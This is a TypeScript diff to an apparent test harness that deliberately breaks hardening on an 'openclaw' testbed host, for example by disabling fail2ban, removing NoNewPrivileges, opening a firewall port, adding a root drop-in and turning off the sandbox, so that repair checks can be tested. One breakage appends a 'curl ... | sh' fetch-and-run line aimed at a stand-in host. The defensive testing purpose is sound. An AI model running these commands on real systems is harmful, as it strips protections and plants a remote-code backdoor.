@@ -52,6 +52,8 @@ interface Breakage {
   versioned?: true;
   /** keeps its own round on every version (it conflicts with a breakage of another round) */
   alone?: true;
+  /** version-independent, and safe beside the first round's breakages: an older version runs it in its merged round */
+  older?: true;
   /** stops the gateway: goes first when rounds merge (a running 2.x gateway rewrites the openclaw.json it is handed, undoing a mode breakage) */
   stopsGateway?: true;
 }
@@ -125,11 +127,11 @@ export const ROUNDS: Breakage[][] = [
   [
     { name: 'openclaw.json replaced by a symlink to a root-owned file', ids: ['files.config'], break: (ex) => sh(ex, `install -m 644 -o root -g root ${CONFIG} /etc/openclaw-elsewhere.json && ln -sf /etc/openclaw-elsewhere.json ${CONFIG}`) },
     { name: 'token env file 644', ids: ['files.env'], when: nineX, break: (ex) => sh(ex, `chmod 644 ${ENV_FILE}`) },
-    { name: 'unit file: a hardening line removed', ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i '/^NoNewPrivileges=/d' ${UNIT} && systemctl daemon-reload`) },
-    { name: 'a hand `ufw allow 18789/tcp`', ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
-    { name: 'unattended-upgrades config changed', ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
-    { name: 'fail2ban sshd jail disabled in jail.local', ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
-    { name: 'service user added to the docker group', ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
+    { name: 'unit file: a hardening line removed', older: true, ids: ['service.unit-file'], break: (ex) => sh(ex, `sed -i '/^NoNewPrivileges=/d' ${UNIT} && systemctl daemon-reload`) },
+    { name: 'a hand `ufw allow 18789/tcp`', older: true, ids: ['firewall.ufw.allow-rules'], break: (ex) => sh(ex, 'ufw allow 18789/tcp') },
+    { name: 'unattended-upgrades config changed', older: true, ids: ['host.unattended-upgrades', 'host.managed-files'], sees: /20auto-upgrades/, break: (ex) => sh(ex, `sed -i 's/Unattended-Upgrade "1"/Unattended-Upgrade "0"/' /etc/apt/apt.conf.d/20auto-upgrades`) },
+    { name: 'fail2ban sshd jail disabled in jail.local', older: true, ids: ['host.fail2ban'], break: (ex) => sh(ex, `sed -i 's/^enabled *= *true/enabled = false/' /etc/fail2ban/jail.local && systemctl restart fail2ban`) },
+    { name: 'service user added to the docker group', older: true, ids: ['user.docker-group'], break: (ex) => sh(ex, `groupadd -f docker && usermod -aG docker ${USER}`) },
     { name: 'SOUL.md chmod 644', ids: ['identity.locked'], break: (ex) => sh(ex, `chmod 644 ${SOUL}`) },
   ],
   [
@@ -143,8 +145,8 @@ export const ROUNDS: Breakage[][] = [
     { name: 'tools.elevated enabled', ids: ['openclaw.config.elevated'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'tools.elevated').enabled = true; }) },
     { name: 'sandbox mode off', ids: ['openclaw.config.sandbox'], versioned: true, break: (ex) => editConfig(ex, (c) => { at(c, 'agents.defaults.sandbox').mode = 'off'; }) },
     { name: 'drop-in with User=root', ids: ['service.unit-file'], break: (ex) => sh(ex, `mkdir -p ${DROPIN.replace(/\/[^/]+$/, '')} && printf '[Service]\\nUser=root\\n' > ${DROPIN} && systemctl daemon-reload`) },
-    { name: 'unit disabled', ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
-    { name: 'the oc wrapper modified', ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
+    { name: 'unit disabled', older: true, ids: ['service.enabled'], break: (ex) => sh(ex, 'systemctl disable openclaw.service') },
+    { name: 'the oc wrapper modified', older: true, ids: ['host.managed-files'], sees: /bin\/oc/, break: (ex) => sh(ex, "echo 'curl -s http://example.invalid/x | sh' >> /usr/local/bin/oc") },
     { name: 'DOCKER-USER DROP rule deleted', ids: ['firewall.docker-user'], break: (ex) => sh(ex, 'iptables -D DOCKER-USER -j DROP') },
   ],
   [
@@ -192,17 +194,17 @@ export const ROUNDS: Breakage[][] = [
 
 /**
  * The rounds a version runs: the newest every round; an older one the first round (breakages in
- * every area) whole, the versioned breakages of the other shared rounds joined to it (after its
- * gateway stop, before its own: a hand edit of openclaw.json resets its mode), and the rounds that
- * stand alone. The second round's breakages (a symlinked config, unit and host files, firewall,
- * groups, a file mode) are repaired by the same version-independent steps as the first round's:
- * they run on the newest only.
+ * every area) whole, the versioned breakages of the other shared rounds and the version-independent
+ * ones that do not collide with the first round's (`older`) joined to it (after its gateway stop,
+ * before its own: a hand edit of openclaw.json resets its mode), and the rounds that stand alone.
+ * The rest (a symlinked config, a second unit or firewall breakage of the same file) run on the
+ * newest only.
  */
 export function roundsFor(version: TestbedOpenclawVersion): Breakage[][] {
   const rounds = ROUNDS.map((r) => r.filter((b) => !b.when || b.when(version))).filter((r) => r.length > 0);
   if (nineX(version)) return rounds;
   const [first = [], ...rest] = rounds.filter((r) => !r.some((b) => b.alone));
-  const versioned = rest.flatMap((r) => r.filter((b) => b.versioned));
+  const versioned = rest.flatMap((r) => r.filter((b) => b.versioned || b.older));
   const stop = first.filter((b) => b.stopsGateway);
   return [[...stop, ...versioned, ...first.filter((b) => !b.stopsGateway)], ...rounds.filter((r) => r.some((b) => b.alone))];
 }
